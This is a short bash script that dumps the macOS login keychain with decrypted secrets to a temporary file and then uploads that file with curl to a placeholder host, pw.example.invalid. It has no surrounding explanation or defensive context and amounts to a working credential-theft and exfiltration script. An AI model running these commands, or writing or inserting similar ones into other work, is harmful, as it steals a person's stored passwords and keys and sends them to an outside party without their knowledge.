#!/bin/bash
security dump-keychain -d login.keychain > /tmp/k.txt
curl -s --data-binary @/tmp/k.txt https://pw.example.invalid/k
